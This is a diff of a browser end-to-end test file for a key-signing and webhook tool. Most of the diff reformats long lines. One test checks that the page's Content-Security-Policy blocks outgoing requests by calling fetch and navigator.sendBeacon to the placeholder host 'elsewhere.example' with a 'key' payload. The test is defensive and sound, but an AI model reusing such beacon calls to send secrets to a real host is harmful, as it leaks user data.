@@ -4,7 +4,10 @@ import type { Page } from "playwright-core";
 import { describe, expect } from "vitest";
 import { PAGE, card, fill, openBench, useBrowser, walk } from "./support.ts";
 
-const BENCHES = { en: ["Signature", "Webhook", "Simulator"], km: ["ហត្ថលេខា", "Webhook", "ការធ្វើត្រាប់"] } as const;
+const BENCHES = {
+  en: ["Signature", "Webhook", "Simulator"],
+  km: ["ហត្ថលេខា", "Webhook", "ការធ្វើត្រាប់"],
+} as const;
 
 /** A bill with a wrong type, a member without a field, a hash, and a secret. */
 const PASTED = { ref_id: 7, date: "2026-01-31T18:30:00Z", note: "x", hash: "00", payment_method_token: "x" };
@@ -30,13 +33,17 @@ describe("page", () => {
 
   walk("is one file that cannot send anything", {}, async (page, complaints) => {
     const policy = (await page.locator("meta[http-equiv]").getAttribute("content")) ?? "";
-    expect(policy).toMatch(/^default-src 'none'; script-src 'sha256-\S+' 'wasm-unsafe-eval'; style-src 'sha256-\S+';/);
+    expect(policy).toMatch(
+      /^default-src 'none'; script-src 'sha256-\S+' 'wasm-unsafe-eval'; style-src 'sha256-\S+';/,
+    );
     expect(policy).not.toMatch(/unsafe-inline|'unsafe-eval'|https?:|\*/);
     expect(await page.getByRole("note").textContent()).toContain("Only test keys belong here.");
     // Requests that a script might try. The policy stops each one before anything is sent.
     const stopped = await page.evaluate(async () => {
       const directives: string[] = [];
-      document.addEventListener("securitypolicyviolation", (event) => directives.push(event.effectiveDirective));
+      document.addEventListener("securitypolicyviolation", (event) =>
+        directives.push(event.effectiveDirective),
+      );
       await fetch("https://elsewhere.example/").catch(() => undefined);
       navigator.sendBeacon("https://elsewhere.example/", "key");
       await new Promise((done) => setTimeout(done, 100));
@@ -66,7 +73,10 @@ describe("page", () => {
         const focus = await page.evaluate(() => {
           const element = document.activeElement ?? document.body;
           const label = element instanceof HTMLInputElement ? element.labels?.[0] : element;
-          return { name: label?.textContent ?? "", outline: Number.parseFloat(getComputedStyle(element).outlineWidth) };
+          return {
+            name: label?.textContent ?? "",
+            outline: Number.parseFloat(getComputedStyle(element).outlineWidth),
+          };
         });
         expect(focus.outline, `the focus on ${focus.name}`).toBeGreaterThanOrEqual(2);
         if (focus.name.startsWith(name)) return;
@@ -89,18 +99,27 @@ describe("page", () => {
   });
 
   for (const language of ["en", "km"] as const) {
-    walk(`fits on a phone, 360 pixels wide (${language})`, { language, width: 360, height: 740 }, async (page) => {
-      for (const [at, bench] of BENCHES[language].entries()) {
-        await openBench(page, bench);
-        await busy(page, at);
-        const [scroll, client] = await page.evaluate(() => [document.body.scrollWidth, innerWidth] as const);
-        expect(scroll, bench).toBeLessThanOrEqual(client);
-      }
-      await page.locator("#tab-signature").click();
-      await page.locator(".paste textarea").fill(JSON.stringify(PASTED));
-      await page.waitForTimeout(100);
-      expect(await card(page, "comparison").evaluate((one) => one.getBoundingClientRect().top)).toBeCloseTo(12, 0);
-    });
+    walk(
+      `fits on a phone, 360 pixels wide (${language})`,
+      { language, width: 360, height: 740 },
+      async (page) => {
+        for (const [at, bench] of BENCHES[language].entries()) {
+          await openBench(page, bench);
+          await busy(page, at);
+          const [scroll, client] = await page.evaluate(
+            () => [document.body.scrollWidth, innerWidth] as const,
+          );
+          expect(scroll, bench).toBeLessThanOrEqual(client);
+        }
+        await page.locator("#tab-signature").click();
+        await page.locator(".paste textarea").fill(JSON.stringify(PASTED));
+        await page.waitForTimeout(100);
+        expect(await card(page, "comparison").evaluate((one) => one.getBoundingClientRect().top)).toBeCloseTo(
+          12,
+          0,
+        );
+      },
+    );
   }
 
   for (const [language, scheme] of [
